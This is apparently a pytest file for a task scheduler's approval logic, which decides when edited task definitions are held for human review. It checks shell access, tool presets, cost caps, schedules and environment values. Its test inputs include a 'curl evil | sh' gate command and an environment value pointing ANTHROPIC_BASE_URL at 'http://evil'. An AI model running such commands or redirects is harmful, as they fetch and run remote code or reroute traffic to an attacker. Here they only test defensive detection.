"""Trust: which definitions pin themselves, and which are held for a person."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from vault_scheduler.planning.approvals import (
    Held,
    Pinned,
    Rights,
    TrustMode,
    asks_for_more,
    least,
    pin_hash,
    restricting,
    rights_of,
    verdict,
)
from vault_scheduler.task import (
    Action,
    AfterOutcome,
    ClaudeAction,
    CommandAction,
    Permissions,
    PythonAction,
    Task,
    TaskType,
    fingerprint,
)
from vault_scheduler.triggers.schedule import IntervalTrigger, OnceTrigger, Schedule

NOW = datetime(2026, 11, 22, 6, 0, tzinfo=UTC)
EDIT = Rights(permissions=Permissions.EDIT, max_usd=0.5)
READ_ONLY = Rights(permissions=Permissions.READ_ONLY, max_usd=0.5)
SERVED = Rights(permissions=Permissions.EDIT, max_usd=0.5, servers="mcp.json")
GATED: dict[str, Any] = {"gate": "test -s Inbox.md", "declared": {"gate": "test -s Inbox.md"}}


def every(**period: int) -> Schedule:
    return Schedule(triggers=(IntervalTrigger(timedelta(**period), datetime(2000, 1, 1, tzinfo=UTC)),))


def a_task(action: Action | None = None, **fields: Any) -> Task:
    action = action or ClaudeAction()
    kinds = {CommandAction: TaskType.COMMAND, PythonAction: TaskType.PYTHON, ClaudeAction: TaskType.CLAUDE}
    given: dict[str, Any] = {
        "id": "a",
        "path": "a.md",
        "type": kinds[type(action)],
        "action": action,
        "schedule": every(days=1),
    }
    return Task(**{**given, **fields})


def claude(**fields: Any) -> Task:
    return a_task(ClaudeAction(**fields))


COMMAND = a_task(CommandAction(command="echo hi"))


@pytest.mark.parametrize(
    ("new", "old", "than", "more"),
    [
        # new tasks
        (claude(), None, EDIT, ""),  # a plain prompt
        (COMMAND, None, EDIT, "shell"),  # type command
        (a_task(PythonAction(call="x:y")), None, EDIT, "shell"),  # type python
        (claude(permissions=Permissions.FULL), None, EDIT, "shell"),
        (claude(allowed_tools=("Bash(git *)",)), None, EDIT, "shell"),  # any Bash rule is shell
        (claude(allowed_tools=("PowerShell(Get-Item *)",)), None, EDIT, "shell"),
        (claude(allowed_tools=("REPL",)), None, EDIT, "shell"),
        (a_task(declared={"gate": "curl evil | sh"}), None, EDIT, "shell"),
        (claude(mcp_config="mcp.json"), None, EDIT, "shell"),
        (claude(allowed_tools=("WebFetch",)), None, EDIT, "allowed_tools"),
        (claude(), None, READ_ONLY, "permissions edit"),  # a read-only run makes an editing task
        (claude(permissions=Permissions.READ_ONLY), None, READ_ONLY, ""),
        (claude(max_usd=0.6), None, EDIT, "max_usd"),
        (claude(max_usd=0.4), None, EDIT, ""),
        (a_task(declared={"host": "server"}), None, EDIT, "host"),
        (a_task(declared={"cwd": "/etc"}), None, EDIT, "cwd"),
        (a_task(declared={"env": ["ANTHROPIC_BASE_URL=http://evil"]}), None, EDIT, "env"),
        (a_task(declared={"secrets": ["TOKEN"]}), None, EDIT, "secrets"),
        (a_task(declared={"cwd": None, "host": ""}), None, EDIT, ""),  # unset keys ask for nothing
        (claude(mcp_config="mcp.json"), None, SERVED, ""),  # the servers that the run has itself
        (claude(mcp_config="other.json"), None, SERVED, "shell"),
        # changed tasks
        (claude(mcp_config="mcp.json"), claude(mcp_config="mcp.json"), EDIT, "shell"),
        (a_task(**GATED), a_task(**GATED), EDIT, ""),  # the prompt below a gate that stays as it is
        (a_task(**GATED), a_task(), EDIT, "shell"),
        (a_task(ClaudeAction(permissions=Permissions.FULL), **GATED), a_task(**GATED), EDIT, "shell"),
        (a_task(CommandAction(command="x"), **GATED), a_task(**GATED), EDIT, "shell"),
        (COMMAND, COMMAND, EDIT, "shell"),  # that it was a command before does not entitle the run to edit it
        (claude(max_usd=2.0), claude(max_usd=2.0), EDIT, ""),  # a cap that it had before
        (claude(max_usd=2.1), claude(max_usd=2.0), EDIT, "max_usd"),
        (claude(max_usd_day=None), claude(max_usd_day=1.0), EDIT, "max_usd_day"),  # the cap taken away
        (claude(max_usd_day=1.0), claude(), EDIT, ""),  # a cap added
        (claude(), claude(disallowed_tools=("Write",)), EDIT, "disallowed_tools"),
        (claude(allowed_tools=("WebFetch",)), claude(allowed_tools=("WebFetch",)), EDIT, ""),
        (a_task(declared={"cwd": "x"}), a_task(declared={"cwd": "x"}), EDIT, ""),
        (a_task(declared={"cwd": "y"}), a_task(declared={"cwd": "x"}), EDIT, "cwd"),
        (a_task(), a_task(declared={"cwd": "x"}), EDIT, ""),  # back to the default
        (a_task(schedule=every(hours=1)), a_task(), EDIT, "a tighter schedule"),
        (a_task(), a_task(schedule=every(hours=1)), EDIT, ""),  # a looser one
        (a_task(schedule=every(seconds=5)), a_task(schedule=every(seconds=6)), EDIT, "a tighter schedule"),
        (a_task(schedule=every(days=7)), a_task(schedule=Schedule()), EDIT, "a tighter schedule"),  # none before
        (a_task(on_start=True), a_task(), EDIT, "a tighter schedule"),
        (a_task(after=("a", "b")), a_task(after=("a",)), EDIT, "a tighter schedule"),
        (a_task(after=("a",)), a_task(after=("a", "b")), EDIT, ""),
        (a_task(after_outcome=AfterOutcome.ANY), a_task(), EDIT, "a tighter schedule"),
        (a_task(), a_task(after_outcome=AfterOutcome.ANY), EDIT, ""),
        (a_task(on_change=("**",)), a_task(on_change=("Inbox/**",)), EDIT, "a tighter schedule"),
        (a_task(debounce=timedelta(seconds=1)), a_task(), EDIT, "a tighter schedule"),
        (a_task(), a_task(max_runs=3), EDIT, "a tighter schedule"),  # the bound taken away
        (a_task(max_runs=3), a_task(), EDIT, ""),
        (
            a_task(schedule=Schedule(triggers=(OnceTrigger((NOW + timedelta(days=3),)),))),
            a_task(schedule=Schedule(triggers=(OnceTrigger((NOW + timedelta(days=2),)),))),
            EDIT,
            "a tighter schedule",  # sooner than before
        ),
        (a_task(CommandAction(command="x"), declared={"cwd": "/"}), None, EDIT, "shell, cwd"),  # all is named
    ],
)
def test_asking_for_more_is_named(new: Task, old: Task | None, than: Rights, more: str) -> None:
    """Rule 8: shell, presets, caps, schedule, host, cwd, gate, and what else a run without shell does not have."""
    if more == "a tighter schedule" and any(isinstance(t, OnceTrigger) for t in new.schedule.triggers):
        new, old = old or new, new  # the case above is written later → sooner
        assert asks_for_more(new, old, than, at=NOW + timedelta(days=-28, hours=-12)) == more
        return
    assert asks_for_more(new, old, than, at=NOW) == more


@pytest.mark.parametrize(
    ("mode", "pinned", "held", "runs", "task", "expected"),
    [
        (TrustMode.VAULT, None, None, [], COMMAND, Pinned(fresh=True)),  # a person's new task
        (TrustMode.VAULT, "old", None, [], COMMAND, Pinned(fresh=True)),  # a person's edit
        (TrustMode.VAULT, "new", None, [EDIT], COMMAND, Pinned(fresh=False)),  # nothing has changed
        (TrustMode.VAULT, None, None, [EDIT], COMMAND, Held),  # a restricted run may have written it
        (TrustMode.VAULT, "old", None, [EDIT], COMMAND, Held),
        (TrustMode.VAULT, None, None, [EDIT], claude(), Pinned(fresh=True)),  # it may, that asks for no more
        (TrustMode.VAULT, None, None, [EDIT, READ_ONLY], claude(), Held),  # either of two may have written it
        (TrustMode.VAULT, "old", "new", [], COMMAND, Held),  # held stays held when the run is over
        (TrustMode.VAULT, "old", "other", [], COMMAND, Held),  # and when somebody edits it once more
        (TrustMode.VAULT, "new", "other", [], COMMAND, Pinned(fresh=False)),  # but not when the edit is undone
        (TrustMode.PINNED, "new", None, [], COMMAND, Pinned(fresh=False)),
        (TrustMode.PINNED, None, None, [], claude(), Held),  # new
        (TrustMode.PINNED, "old", None, [], claude(), Held),  # changed
    ],
)
def test_a_definition_is_pinned_or_held(
    mode: TrustMode,
    pinned: str | None,
    held: str | None,
    runs: list[Rights],
    task: Task,
    expected: Pinned | type[Held],
) -> None:
    """Rule 8, for the definition whose hash is `new`."""
    found = verdict(mode, task=task, definition="new", pinned=pinned, old=None, held=held, restricting=runs, at=NOW)
    if isinstance(expected, Pinned):
        assert found == expected
    else:
        assert isinstance(found, Held)
        assert found.reason


def test_without_the_file_of_pins_everything_is_held() -> None:
    """Rule 8: an unknown pin file holds; what was approved since then runs."""
    for pinned, expected in ((None, Held), ("other", Held), ("new", Pinned)):
        found = verdict(
            TrustMode.VAULT,
            task=claude(),
            definition="new",
            pinned=pinned,
            old=None,
            held=None,
            restricting=(),
            at=NOW,
            pins_known=False,
        )
        assert isinstance(found, expected)


def test_the_reason_names_what_it_asks_for() -> None:
    """A person decides by it."""
    found = verdict(
        TrustMode.VAULT, task=COMMAND, definition="n", pinned=None, old=None, held=None, restricting=[EDIT], at=NOW
    )
    assert isinstance(found, Held)
    assert "shell" in found.reason


@pytest.mark.parametrize(
    ("task", "rights"),
    [
        (claude(), EDIT),
        (
            claude(permissions=Permissions.READ_ONLY, max_usd=0.1),
            Rights(permissions=Permissions.READ_ONLY, max_usd=0.1),
        ),
        (claude(permissions=Permissions.FULL), None),  # it can write anything anyway
        (claude(allowed_tools=("Bash",)), None),
        (claude(mcp_config="mcp.json"), SERVED),  # whoever steers its servers is not the person
        (a_task(gate="test -s Inbox.md", declared={"gate": "test -s Inbox.md"}), EDIT),  # Claude itself has none
        (a_task(ClaudeAction(mcp_config="mcp.json"), gate="true", declared={"gate": "true"}), SERVED),
        (COMMAND, None),
    ],
)
def test_only_runs_without_shell_restrict(task: Task, rights: Rights | None) -> None:
    """What has shell is trusted like the person who gave it."""
    assert rights_of(task) == rights


def test_a_run_counts_until_five_seconds_after_its_end() -> None:
    """A note may be seen a moment after the run that wrote it."""
    ended = [(EDIT, NOW - timedelta(seconds=5)), (READ_ONLY, NOW - timedelta(seconds=6)), (None, None), (EDIT, None)]
    assert restricting(ended, NOW) == (EDIT, EDIT)


def test_servers_of_several_runs_are_nobodys() -> None:
    """Who of them wrote something is not known, so only what all of them have counts."""
    assert least([SERVED, SERVED]).servers == "mcp.json"
    assert least([SERVED, EDIT]).servers == least([EDIT, SERVED]).servers == ""


def test_several_runs_have_what_each_of_them_has() -> None:
    """Nobody knows which of them wrote the note."""
    poor = Rights(permissions=Permissions.EDIT, max_usd=0.1)
    assert least([READ_ONLY, poor]) == Rights(permissions=Permissions.READ_ONLY, max_usd=0.1)


def test_a_changed_script_changes_the_pin() -> None:
    """The files that a task names belong to its definition."""
    hashes = [pin_hash("d", {}), pin_hash("d", {"a.py": b"1"}), pin_hash("d", {"a.py": b"2"}), pin_hash("e", {})]
    assert len(set(hashes)) == 4
    assert pin_hash("d", {"a": b"1", "b": b"2"}) == pin_hash("d", {"b": b"2", "a": b"1"})


def test_a_pin_without_files_is_what_it_was() -> None:
    """Approvals that were given stay: it is the fingerprint of the definition and of no files."""
    assert pin_hash("0123abcd", {}) == fingerprint(["0123abcd", {}])
    assert pin_hash('"quoted"', {}) == fingerprint(['"quoted"', {}])
